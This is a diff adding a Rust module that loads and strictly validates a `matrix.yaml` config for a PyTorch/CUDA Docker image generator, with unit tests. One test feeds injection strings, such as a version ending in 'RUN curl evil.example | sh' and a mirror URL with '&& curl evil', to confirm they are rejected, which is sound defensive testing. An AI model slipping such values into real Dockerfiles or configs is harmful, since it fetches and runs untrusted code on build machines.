@@ -1,1 +1,530 @@
-//! (in progress)
+//! `matrix.yaml`: the images a team wants, as axes (`torch`, `cuda`, `cudnn`, `python`, `os`,
+//! `variants`) plus `include`/`exclude` rules, the registry and repository, tag settings and mirrors.
+//!
+//! Loading is strict: an unknown key, a wrong type or a malformed version is an error naming the
+//! file, line and column, with a hint (`did you mean torch?`). Every string that can reach a
+//! Dockerfile is validated here, so the renderer only ever sees safe values. Versions are kept as
+//! strings exactly as written (`12.10` stays `12.10`). This module does not touch Docker.
+
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use serde::de::{self, Deserializer};
+use serde::{Deserialize, Serialize};
+
+use crate::version::{DottedVersion, TorchVersion};
+
+/// An error in a matrix file, with where it is and what to do about it.
+#[derive(Debug, thiserror::Error)]
+pub enum MatrixError {
+    #[error("cannot read matrix {path}: {source}")]
+    Read { path: String, source: std::io::Error },
+    #[error("{path}{location}: {message}{hint}", location = location_suffix(*line, *column), hint = hint_suffix(hint))]
+    Invalid { path: String, line: Option<usize>, column: Option<usize>, message: String, hint: Option<String> },
+}
+
+fn location_suffix(line: Option<usize>, column: Option<usize>) -> String {
+    match (line, column) {
+        (Some(line), Some(column)) => format!(":{line}:{column}"),
+        (Some(line), None) => format!(":{line}"),
+        _ => String::new(),
+    }
+}
+
+fn hint_suffix(hint: &Option<String>) -> String {
+    hint.as_ref().map(|h| format!("\nhint: {h}")).unwrap_or_default()
+}
+
+/// The image variants imagegen knows how to render.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Variant {
+    /// Lean, to run: torch and its pip-provided CUDA libraries, a C compiler for Triton, no nvcc.
+    Runtime,
+    /// Built on the runtime image, adds the CUDA compiler and headers to build extensions.
+    Devel,
+}
+
+impl Variant {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Variant::Runtime => "runtime",
+            Variant::Devel => "devel",
+        }
+    }
+}
+
+impl fmt::Display for Variant {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// A version string checked at load time (digits and dots only), kept exactly as written.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
+#[serde(transparent)]
+pub struct VersionText(pub String);
+
+impl fmt::Display for VersionText {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+impl<'de> Deserialize<'de> for VersionText {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        let text = String::deserialize(deserializer)?;
+        DottedVersion::parse_kind(&text, "", 4).map_err(|e| de::Error::custom(format!("malformed version {:?}: {}", text, e.why)))?;
+        Ok(VersionText(text))
+    }
+}
+
+/// An OS name such as `ubuntu24.04`.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
+#[serde(transparent)]
+pub struct OsName(pub String);
+
+impl fmt::Display for OsName {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+impl<'de> Deserialize<'de> for OsName {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        let text = String::deserialize(deserializer)?;
+        let valid = text
+            .strip_prefix("ubuntu")
+            .is_some_and(|rest| DottedVersion::parse_kind(rest, "", 2).is_ok_and(|v| v.parts().len() == 2));
+        if !valid {
+            return Err(de::Error::custom(format!("malformed OS {text:?}: write it as ubuntuYY.MM, e.g. ubuntu24.04")));
+        }
+        Ok(OsName(text))
+    }
+}
+
+/// An include or exclude rule: each present key narrows the cells it applies to.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct CellRule {
+    #[serde(default)]
+    pub torch: Option<VersionText>,
+    #[serde(default)]
+    pub cuda: Option<VersionText>,
+    #[serde(default)]
+    pub cudnn: Option<VersionText>,
+    #[serde(default)]
+    pub python: Option<VersionText>,
+    #[serde(default)]
+    pub os: Option<OsName>,
+    #[serde(default)]
+    pub variants: Option<Vec<Variant>>,
+}
+
+/// Tag settings.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct TagSettings {
+    /// The immutable full tag. Placeholders: {torch} {torch_series} {cuda} {cudnn_major} {cudnn}
+    /// {python} {variant} {os}.
+    #[serde(default = "default_full_tag")]
+    pub full: String,
+    /// The OS that short aliases (without an OS suffix) and `latest` point at; the newest OS of
+    /// the matrix when absent.
+    #[serde(default)]
+    pub default_os: Option<OsName>,
+    /// The Python that aliases point at when the matrix has several; the newest when absent.
+    #[serde(default)]
+    pub default_python: Option<VersionText>,
+    /// Whether to give the newest stable torch with its default CUDA the `latest` alias.
+    #[serde(default = "default_true")]
+    pub latest: bool,
+}
+
+impl Default for TagSettings {
+    fn default() -> Self {
+        Self { full: default_full_tag(), default_os: None, default_python: None, latest: true }
+    }
+}
+
+fn default_full_tag() -> String {
+    "{torch}-cuda{cuda}-cudnn{cudnn_major}-{variant}-{os}".to_string()
+}
+
+fn default_true() -> bool {
+    true
+}
+
+/// Where images get their packages, for teams behind a proxy or air-gapped.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Mirrors {
+    /// Base of the torch wheel indexes; `/cu126` etc. is appended. Default download.pytorch.org/whl.
+    #[serde(default)]
+    pub torch_index: Option<String>,
+    /// A pip index for everything else (torch's dependencies). Default: pip's own.
+    #[serde(default)]
+    pub pip_index: Option<String>,
+    /// An Ubuntu archive mirror replacing archive.ubuntu.com and security.ubuntu.com.
+    #[serde(default)]
+    pub apt: Option<String>,
+    /// A registry prefix for the base images (`nvidia/cuda`), e.g. `mirror.example.com/dockerhub`.
+    #[serde(default)]
+    pub base_registry: Option<String>,
+}
+
+/// Base image overrides: use these instead of nvidia/cuda (tests, internal bases).
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct BaseImages {
+    #[serde(default)]
+    pub runtime: Option<String>,
+}
+
+/// The whole matrix file.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Matrix {
+    /// Registry host, e.g. `ghcr.io` or `127.0.0.1:5000`.
+    pub registry: String,
+    /// Repository within the registry, e.g. `acme/pytorch`.
+    pub repository: String,
+    pub torch: Vec<VersionText>,
+    pub cuda: Vec<VersionText>,
+    /// cuDNN versions or majors; absent means the one the torch wheel bundles.
+    #[serde(default)]
+    pub cudnn: Vec<VersionText>,
+    /// Python versions; absent means the Python the OS ships.
+    #[serde(default)]
+    pub python: Vec<VersionText>,
+    pub os: Vec<OsName>,
+    #[serde(default = "default_variants")]
+    pub variants: Vec<Variant>,
+    #[serde(default)]
+    pub include: Vec<CellRule>,
+    #[serde(default)]
+    pub exclude: Vec<CellRule>,
+    #[serde(default)]
+    pub tags: TagSettings,
+    #[serde(default)]
+    pub mirrors: Mirrors,
+    /// Extra OCI labels for every image (`org.opencontainers.image.vendor`, ...).
+    #[serde(default)]
+    pub labels: BTreeMap<String, String>,
+    /// Allow knowledge entries marked `verified: false` (e.g. CUDA 13.2 driver minimum).
+    #[serde(default)]
+    pub allow_unverified: bool,
+    /// A directory whose templates replace the embedded ones (`runtime.Dockerfile.j2`, ...),
+    /// relative to the matrix file.
+    #[serde(default)]
+    pub templates: Option<PathBuf>,
+    #[serde(default)]
+    pub base_images: BaseImages,
+}
+
+fn default_variants() -> Vec<Variant> {
+    vec![Variant::Runtime, Variant::Devel]
+}
+
+/// Every top-level key, for "did you mean" hints.
+const TOP_LEVEL_KEYS: &[&str] = &[
+    "registry", "repository", "torch", "cuda", "cudnn", "python", "os", "variants", "include", "exclude", "tags",
+    "mirrors", "labels", "allow_unverified", "templates", "base_images",
+];
+
+impl Matrix {
+    /// Reads and validates the matrix at `path`.
+    pub fn load(path: &Path) -> Result<Matrix, MatrixError> {
+        let text = std::fs::read_to_string(path)
+            .map_err(|source| MatrixError::Read { path: path.display().to_string(), source })?;
+        let mut matrix = Self::parse(&text, &path.display().to_string())?;
+        if let Some(templates) = &matrix.templates {
+            if templates.is_relative() {
+                matrix.templates = Some(path.parent().unwrap_or(Path::new(".")).join(templates));
+            }
+        }
+        Ok(matrix)
+    }
+
+    /// Parses matrix text; `path` is only used in messages.
+    pub fn parse(text: &str, path: &str) -> Result<Matrix, MatrixError> {
+        let matrix: Matrix = serde_yaml::from_str(text).map_err(|error| {
+            let message = error.to_string();
+            let (line, column) = match error.location() {
+                Some(at) => (Some(at.line()), Some(at.column())),
+                None => (None, None),
+            };
+            // serde_yaml appends " at line L column C"; the location already leads the message.
+            let message = match message.find(" at line ") {
+                Some(index) => message[..index].to_string(),
+                None => message,
+            };
+            let hint = unknown_field_hint(&message).or_else(|| {
+                message.contains("expected a sequence").then(|| "axes are lists: write `cuda: [\"12.6\"]`".to_string())
+            });
+            MatrixError::Invalid { path: path.to_string(), line, column, message, hint }
+        })?;
+        matrix.validate(text, path)?;
+        Ok(matrix)
+    }
+
+    /// Checks what serde cannot: non-empty axes, torch versions, safe strings.
+    fn validate(&self, text: &str, path: &str) -> Result<(), MatrixError> {
+        let invalid = |key: &str, needle: &str, message: String, hint: Option<String>| {
+            let (line, column) = find_location(text, key, needle);
+            MatrixError::Invalid { path: path.to_string(), line, column, message, hint }
+        };
+        for (key, empty) in [("torch", self.torch.is_empty()), ("cuda", self.cuda.is_empty()), ("os", self.os.is_empty()), ("variants", self.variants.is_empty())] {
+            if empty {
+                return Err(invalid(key, "", format!("`{key}` is empty: list at least one value"), None));
+            }
+        }
+        for torch in self.torch.iter().chain(self.include.iter().filter_map(|r| r.torch.as_ref())) {
+            TorchVersion::parse(&torch.0).map_err(|e| invalid("torch", &torch.0, e.to_string(), None))?;
+        }
+        check_reference_part("registry", &self.registry, true).map_err(|m| invalid("registry", &self.registry, m, None))?;
+        check_reference_part("repository", &self.repository, false)
+            .map_err(|m| invalid("repository", &self.repository, m, Some("lowercase letters, digits, `.`, `_`, `-` and `/`".into())))?;
+        if !self.repository.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-/".contains(c)) {
+            return Err(invalid("repository", &self.repository, format!("repository {:?} must be lowercase", self.repository), None));
+        }
+        let mirrors = [
+            ("torch_index", &self.mirrors.torch_index),
+            ("pip_index", &self.mirrors.pip_index),
+            ("apt", &self.mirrors.apt),
+        ];
+        for (key, value) in mirrors {
+            if let Some(url) = value {
+                check_url(url).map_err(|m| invalid(key, url, format!("mirrors.{key}: {m}"), None))?;
+            }
+        }
+        if let Some(prefix) = &self.mirrors.base_registry {
+            check_reference_part("base_registry", prefix, true)
+                .map_err(|m| invalid("base_registry", prefix, format!("mirrors.{m}"), None))?;
+        }
+        if let Some(base) = &self.base_images.runtime {
+            check_image_reference(base).map_err(|m| invalid("runtime", base, format!("base_images.runtime: {m}"), None))?;
+        }
+        for (key, value) in &self.labels {
+            check_label(key, value).map_err(|m| invalid(key, "", m, None))?;
+        }
+        check_tag_template(&self.tags.full).map_err(|m| invalid("full", "", format!("tags.full: {m}"), None))?;
+        Ok(())
+    }
+}
+
+/// `did you mean` for serde's "unknown field `x`, expected one of ..." messages.
+fn unknown_field_hint(message: &str) -> Option<String> {
+    let rest = message.split("unknown field `").nth(1)?;
+    let unknown = rest.split('`').next()?;
+    let candidates: Vec<String> = match rest.split("expected one of ").nth(1) {
+        Some(list) => list.split(", ").map(|c| c.trim_matches(|ch| ch == '`' || ch == ' ').to_string()).collect(),
+        None => match rest.split("expected `").nth(1) {
+            Some(single) => vec![single.trim_end_matches('`').to_string()],
+            None => TOP_LEVEL_KEYS.iter().map(|s| s.to_string()).collect(),
+        },
+    };
+    let best = candidates.iter().min_by_key(|c| edit_distance(unknown, c))?;
+    if edit_distance(unknown, best) <= 2.max(unknown.len() / 3) {
+        Some(format!("did you mean `{best}`?"))
+    } else {
+        Some(format!("known keys here: {}", candidates.join(", ")))
+    }
+}
+
+/// Levenshtein distance, for key suggestions.
+pub fn edit_distance(a: &str, b: &str) -> usize {
+    let b: Vec<char> = b.chars().collect();
+    let mut previous: Vec<usize> = (0..=b.len()).collect();
+    for (i, ca) in a.chars().enumerate() {
+        let mut current = vec![i + 1];
+        for (j, cb) in b.iter().enumerate() {
+            let substitution = previous[j] + usize::from(ca != *cb);
+            current.push(substitution.min(previous[j + 1] + 1).min(current[j] + 1));
+        }
+        previous = current;
+    }
+    previous[b.len()]
+}
+
+/// The 1-based line and column of the first line holding `key:` (and `needle`, when given).
+fn find_location(text: &str, key: &str, needle: &str) -> (Option<usize>, Option<usize>) {
+    for (index, line) in text.lines().enumerate() {
+        if let Some(key_at) = line.find(&format!("{key}:")) {
+            if needle.is_empty() || line.contains(needle) {
+                let column = if needle.is_empty() { key_at } else { line.find(needle).unwrap_or(key_at) };
+                return (Some(index + 1), Some(column + 1));
+            }
+        }
+    }
+    // The needle may be in a list on following lines; fall back to the needle alone.
+    if !needle.is_empty() {
+        let first_line = needle.lines().next().unwrap_or(needle);
+        for (index, line) in text.lines().enumerate() {
+            if let Some(at) = line.find(first_line) {
+                return (Some(index + 1), Some(at + 1));
+            }
+        }
+    }
+    (None, None)
+}
+
+/// A registry host (`ghcr.io`, `127.0.0.1:5000`) or repository path (`acme/pytorch`).
+fn check_reference_part(what: &str, value: &str, is_host: bool) -> Result<(), String> {
+    if value.is_empty() {
+        return Err(format!("{what} is empty"));
+    }
+    let allowed = |c: char| c.is_ascii_alphanumeric() || "._-/".contains(c) || (is_host && c == ':');
+    if let Some(bad) = value.chars().find(|c| !allowed(*c)) {
+        return Err(format!("{what} {value:?} contains {bad:?}, which is not allowed in an image reference"));
+    }
+    if value.starts_with(['/', '-', '.']) || value.ends_with(['/', '-', '.']) || value.contains("//") {
+        return Err(format!("{what} {value:?} is not a valid image reference part"));
+    }
+    Ok(())
+}
+
+/// A full image reference `host/repo:tag` or `repo@sha256:...`.
+pub fn check_image_reference(value: &str) -> Result<(), String> {
+    let allowed = |c: char| c.is_ascii_alphanumeric() || "._-/:@".contains(c);
+    if value.is_empty() || value.chars().any(|c| !allowed(c)) || value.starts_with('-') {
+        return Err(format!("{value:?} is not a valid image reference"));
+    }
+    Ok(())
+}
+
+/// An http(s) URL with no character that could escape a Dockerfile line or a shell word.
+fn check_url(url: &str) -> Result<(), String> {
+    if !(url.starts_with("http://") || url.starts_with("https://")) {
+        return Err(format!("{url:?} must start with http:// or https://"));
+    }
+    let allowed = |c: char| c.is_ascii_alphanumeric() || "-._~:/?#[]@!&'()*+,;=%".contains(c);
+    if let Some(bad) = url.chars().find(|c| !allowed(*c) || *c == '\'') {
+        return Err(format!("{url:?} contains {bad:?}, which is not allowed in a mirror URL"));
+    }
+    Ok(())
+}
+
+/// A label key in reverse-DNS form and a value without quotes, backslashes, `$` or control characters.
+fn check_label(key: &str, value: &str) -> Result<(), String> {
+    if key.is_empty() || !key.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)) {
+        return Err(format!("label key {key:?} may contain only letters, digits, `.`, `_` and `-`"));
+    }
+    check_free_text(&format!("label {key}"), value)
+}
+
+/// Free text that is quoted in a Dockerfile: no `"`, `\`, `$`, backtick or control characters.
+pub fn check_free_text(what: &str, value: &str) -> Result<(), String> {
+    if let Some(bad) = value.chars().find(|c| c.is_control() || "\"\\$`".contains(*c)) {
+        return Err(format!("{what} {value:?} contains {bad:?}, which is not allowed in a Dockerfile value"));
+    }
+    Ok(())
+}
+
+/// Tag templates may use only known placeholders and produce valid tag characters.
+fn check_tag_template(template: &str) -> Result<(), String> {
+    const PLACEHOLDERS: &[&str] = &["torch", "torch_series", "cuda", "cudnn_major", "cudnn", "python", "variant", "os"];
+    let mut rest = template;
+    let mut literal = String::new();
+    while let Some(open) = rest.find('{') {
+        literal.push_str(&rest[..open]);
+        let close = rest[open..].find('}').ok_or_else(|| format!("{template:?} has an unclosed `{{`"))? + open;
+        let name = &rest[open + 1..close];
+        if !PLACEHOLDERS.contains(&name) {
+            return Err(format!("unknown placeholder {{{name}}} (known: {})", PLACEHOLDERS.join(", ")));
+        }
+        rest = &rest[close + 1..];
+    }
+    literal.push_str(rest);
+    if let Some(bad) = literal.chars().find(|c| !(c.is_ascii_alphanumeric() || "._-".contains(*c))) {
+        return Err(format!("{template:?} contains {bad:?}, which is not allowed in a tag"));
+    }
+    if !template.contains("{variant}") {
+        return Err(format!("{template:?} must contain {{variant}} so runtime and devel images get different tags"));
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const MINIMAL: &str = "registry: ghcr.io\nrepository: acme/pytorch\ntorch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n";
+
+    fn error_of(text: &str) -> String {
+        Matrix::parse(text, "matrix.yaml").unwrap_err().to_string()
+    }
+
+    #[test]
+    fn minimal_matrix_gets_defaults() {
+        let matrix = Matrix::parse(MINIMAL, "matrix.yaml").unwrap();
+        assert_eq!(matrix.variants, vec![Variant::Runtime, Variant::Devel]);
+        assert!(matrix.tags.latest);
+        assert!(matrix.cudnn.is_empty());
+    }
+
+    #[test]
+    fn unquoted_versions_stay_as_written() {
+        let text = MINIMAL.replace("cuda: [\"12.6\"]", "cuda: [12.10, 12.6]");
+        let matrix = Matrix::parse(&text, "matrix.yaml").unwrap();
+        assert_eq!(matrix.cuda[0].0, "12.10");
+    }
+
+    #[test]
+    fn unknown_key_names_line_column_and_suggestion() {
+        let error = error_of(&MINIMAL.replace("torch:", "torhc:"));
+        assert!(error.starts_with("matrix.yaml:3:1: unknown field `torhc`"), "{error}");
+        assert!(error.contains("hint: did you mean `torch`?"), "{error}");
+        let nested = error_of(&format!("{MINIMAL}tags:\n  ful: x\n"));
+        assert!(nested.contains("matrix.yaml:7:3"), "{nested}");
+        assert!(nested.contains("did you mean `full`?"), "{nested}");
+    }
+
+    #[test]
+    fn malformed_versions_are_located() {
+        let error = error_of(&MINIMAL.replace("cuda: [\"12.6\"]", "cuda: [\"12.6\", \"12.x\"]"));
+        assert!(error.starts_with("matrix.yaml:4:"), "{error}");
+        assert!(error.contains("malformed version \"12.x\""), "{error}");
+        let error = error_of(&MINIMAL.replace("ubuntu24.04", "debian12"));
+        assert!(error.contains("malformed OS \"debian12\""), "{error}");
+    }
+
+    #[test]
+    fn wrong_types_get_a_hint() {
+        let error = error_of(&MINIMAL.replace("cuda: [\"12.6\"]", "cuda: \"12.6\""));
+        assert!(error.contains("matrix.yaml:4:"), "{error}");
+        assert!(error.contains("expected a sequence"), "{error}");
+        assert!(error.contains("hint: axes are lists"), "{error}");
+    }
+
+    #[test]
+    fn injection_attempts_are_rejected() {
+        let error = error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2.7.0\\nRUN curl evil.example | sh\"]"));
+        assert!(error.contains("malformed version"), "{error}");
+        let error = error_of(&MINIMAL.replace("acme/pytorch", "\"acme/pytorch\\nRUN x\""));
+        assert!(error.contains("not allowed in an image reference"), "{error}");
+        let error = error_of(&format!("{MINIMAL}mirrors:\n  pip_index: \"https://x.example/simple && curl evil\"\n"));
+        assert!(error.contains("mirrors.pip_index"), "{error}");
+        let error = error_of(&format!("{MINIMAL}labels:\n  org.example.team: \"a\\\"\\nRUN x\"\n"));
+        assert!(error.contains("not allowed in a Dockerfile value"), "{error}");
+        let error = error_of(&format!("{MINIMAL}tags:\n  full: \"{{torch}}-{{nope}}-{{variant}}\"\n"));
+        assert!(error.contains("unknown placeholder {nope}"), "{error}");
+    }
+
+    #[test]
+    fn empty_axes_and_bad_torch_are_rejected() {
+        let error = error_of(&MINIMAL.replace("[\"12.6\"]", "[]"));
+        assert!(error.contains("`cuda` is empty"), "{error}");
+        let error = error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2\"]"));
+        assert!(error.contains("matrix.yaml:3:"), "{error}");
+        assert!(error.contains("torch"), "{error}");
+    }
+
+    #[test]
+    fn edit_distance_works() {
+        assert_eq!(edit_distance("torhc", "torch"), 2);
+        assert_eq!(edit_distance("", "abc"), 3);
+        assert_eq!(edit_distance("cuda", "cuda"), 0);
+    }
+}
